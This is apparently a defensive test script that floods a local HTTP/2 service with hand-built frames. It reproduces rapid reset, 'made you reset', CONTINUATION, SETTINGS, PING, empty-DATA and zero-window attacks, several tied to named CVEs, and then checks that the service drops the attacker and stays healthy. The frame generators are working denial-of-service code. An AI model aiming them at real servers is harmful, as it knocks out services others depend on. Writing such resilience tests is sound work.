"""HTTP/2 clients that flood: frames in bytes, because no client library would send them so fast or so wrong.

Each attack runs for SECONDS, over and over on a new connection where it is thrown out. The service must end each
connection itself (GOAWAY or a closed door) where the flood is one, hold its memory, and answer others meanwhile.
"""

import collections
import select
import socket
import ssl
import struct
import sys
import threading
import time

from service import UNLIMITED, Service

SECONDS = 20
# What the service may grow by under attack, and still hold a while afterwards: arenas and pools of buffers.
GROWTH_KIB = 64 * 1024

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
# `:method GET`, `:scheme https`, `:path /` are numbers in HPACK's static table; `:authority` is spelled out.
GET_ROOT = b"\x82\x87\x84\x41\x09localhost"
# The largest file that is served, as a literal path.
SCRIPT = b"/docs/swagger-ui-bundle.js"
GET_SCRIPT = b"\x82\x87\x04" + bytes([len(SCRIPT)]) + SCRIPT + b"\x41\x09localhost"
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 9: "COMPRESSION_ERROR"}
ERRORS |= {6: "FRAME_SIZE_ERROR", 11: "ENHANCE_YOUR_CALM"}


# In place of a piece: a second in which nothing is sent.
WAIT = None


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def setting(number, value):
    return struct.pack(">HI", number, value)


class Peer:
    """A connection whose answers are read between two writes, so that nothing is held back on our side unless an attack
    wants it. One thread for both: Python's TLS does not bear two."""

    def __init__(self, service, first=b"", reads=True):
        context = service.context()
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection(("127.0.0.1", service.port), timeout=60)
        self.stream = context.wrap_socket(plain, server_hostname="localhost")
        assert self.stream.selected_alpn_protocol() == "h2"
        self.stream.setblocking(False)
        self.reads, self.unread = reads, b""
        self.frames, self.error, self.ended = collections.Counter(), None, False
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, first), 10)

    def send(self, data, patience):
        """False when the other side has hung up, or takes nothing for so many seconds."""
        until = time.monotonic() + patience
        while data and not self.ended:
            try:
                data = data[self.stream.send(data[: 16 * 1024]) :]
                until = time.monotonic() + patience
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                if time.monotonic() > until:
                    return False
                select.select([self.stream] if self.reads else [], [self.stream], [], 0.1)
            except OSError:
                self._read()  # why
                self.ended = True
            if self.reads:
                self._read()
        return not self.ended

    def wait(self, seconds):
        """For what the service says of itself."""
        until = time.monotonic() + seconds
        while not self.ended and (left := until - time.monotonic()) > 0:
            select.select([self.stream], [], [], left)
            self._read()

    def _read(self):
        try:
            while part := self.stream.recv(64 * 1024):
                self.unread += part
            self.ended = True
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.ended = True
        while len(self.unread) >= 9 and len(self.unread) >= (whole := 9 + int.from_bytes(self.unread[:3])):
            self.frames[self.unread[3]] += 1
            if self.unread[3] == GOAWAY:
                self.error = int.from_bytes(self.unread[13:17])
            self.unread = self.unread[whole:]

    def close(self):
        self.stream.close()


class Flood:
    """What is sent, again and again, on one connection; a generator that yields pieces of some kilobytes."""

    def __init__(self, name, pieces, must_end, first=b"", reads=True):
        self.name, self.pieces, self.must_end, self.first, self.reads = name, pieces, must_end, first, reads


def rapid_reset():
    stream = 1
    while stream < 2**31 - 400:
        pairs = range(stream, stream + 200, 2)
        stream += 200
        yield b"".join(frame(HEADERS, 5, n, GET_ROOT) + frame(RST_STREAM, 0, n, b"\0\0\0\x08") for n in pairs)


def made_you_reset():
    """CVE-2025-8671: the client grants more room than can be counted, so that it is the server that resets the stream."""
    stream = 1
    while stream < 2**31 - 400:
        pairs = range(stream, stream + 200, 2)
        stream += 200
        yield b"".join(frame(HEADERS, 5, n, GET_ROOT) + frame(WINDOW_UPDATE, 0, n, b"\x7f\xff\xff\xff") for n in pairs)


def continuation():
    """CVE-2024-27316: a head that never ends. Each frame names one more field, 16 KiB of them."""
    field = b"\x00\x01x\x7f\x81\x7c" + b"a" * 16000
    yield frame(HEADERS, 1, 1, GET_ROOT)
    while True:
        yield frame(CONTINUATION, 0, 1, field)


def empty_continuation():
    yield frame(HEADERS, 1, 1, GET_ROOT)
    while True:
        yield frame(CONTINUATION, 0, 1) * 1000


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, setting(3, 100)) * 500


def pings():
    while True:
        yield frame(PING, 0, 0, b"drawbrid") * 500


def empty_data():
    """CVE-2019-9518: frames with nothing in them, on a request that never ends."""
    yield frame(HEADERS, END_HEADERS, 1, b"\x83\x87\x04\x0e/v1/auth/login\x41\x09localhost\x5f\x10application/json")
    while True:
        yield frame(DATA, 0, 1) * 1000


def no_window():
    """Large answers to as many streams as are granted, and not a byte of room for them; pings say: still here."""
    yield b"".join(frame(HEADERS, 5, n, GET_SCRIPT) for n in range(1, 200, 2))
    while True:
        yield WAIT
        yield frame(PING, 0, 0, b"drawbrid")


FLOODS = [
    Flood("rapid reset", rapid_reset, "GOAWAY"),
    Flood("made you reset", made_you_reset, "GOAWAY"),
    Flood("CONTINUATION", continuation, "end"),
    Flood("empty CONTINUATION", empty_continuation, "end"),
    Flood("SETTINGS", settings, None),
    Flood("SETTINGS, unread", settings, None, reads=False),
    Flood("PING", pings, None),
    Flood("PING, unread", pings, None, reads=False),
    Flood("empty DATA", empty_data, None),
    Flood("no window", no_window, "end", first=setting(4, 0)),
]


def run(service, flood, seconds):
    """One attacker, who comes back each time; gives what was sent and how the connections ended."""
    until = time.monotonic() + seconds
    sent = connections = 0
    ends, longest = collections.Counter(), 0.0
    while time.monotonic() < until:
        began = time.monotonic()
        peer = Peer(service, flood.first, flood.reads)
        connections += 1
        for piece in flood.pieces():
            if piece is WAIT:
                peer.wait(1)
            elif not peer.send(piece, until - time.monotonic()):
                break
            sent += len(piece or b"")
            if peer.ended or time.monotonic() > until:
                break
        if not flood.reads:
            peer.wait(1)
        longest = max(longest, time.monotonic() - began)
        name = "still open" if not peer.ended else "closed" if peer.error is None else ERRORS.get(peer.error, peer.error)
        ends[name] += 1
        peer.close()
    return connections, sent, ends, longest


class Others:
    """An honest client on the side."""

    def __init__(self, service):
        self.service, self.stop = service, threading.Event()
        self.asked, self.failed, self.slowest, self.peak = 0, 0, 0.0, 0
        self.thread = threading.Thread(target=self._ask)
        self.thread.start()

    def _ask(self):
        while not self.stop.wait(0.25):
            began = time.monotonic()
            try:
                assert self.service.get() == 200
            except Exception:
                self.failed += 1
            self.asked += 1
            self.slowest = max(self.slowest, time.monotonic() - began)
            self.peak = max(self.peak, self.service.resident_kib())

    def done(self):
        self.stop.set()
        self.thread.join()
        return self


def attack(service, flood, seconds):
    before, others = service.resident_kib(), Others(service)
    connections, sent, ends, longest = run(service, flood, seconds)
    others.done()
    time.sleep(2)
    after = service.resident_kib()
    good = others.failed == 0 and others.peak - before < GROWTH_KIB
    if flood.must_end == "GOAWAY":
        good &= ends["ENHANCE_YOUR_CALM"] > 0 and set(ends) <= {"ENHANCE_YOUR_CALM", "still open"}
    if flood.must_end:
        # The last one may be under way when the time is up.
        good &= connections > 1 and ends["still open"] <= 1
    print(
        f"{flood.name:20} {connections} connections, {sent // 1024} KiB sent, ended {dict(ends)}, the longest {longest:.1f} s;"
        f" VmRSS {before} -> {others.peak} -> {after} kB;"
        f" others: {others.asked} asked, {others.failed} failed, slowest {others.slowest * 1000:.0f} ms"
        f" -> {'ok' if good else 'FAILED'}",
        flush=True,
    )
    return good


def main():
    only = sys.argv[1:]
    good = True
    with Service(tls=True, **UNLIMITED) as service:
        for _ in range(200):
            service.get()  # memory that the first requests take is not the attacks'
        for flood in FLOODS:
            if only and flood.name not in only:
                continue
            # A peer without a window is cut between 30 and 60 s.
            good &= attack(service, flood, 70 if flood.pieces is no_window else SECONDS)
    return 0 if good else 1


if __name__ == "__main__":
    sys.exit(main())
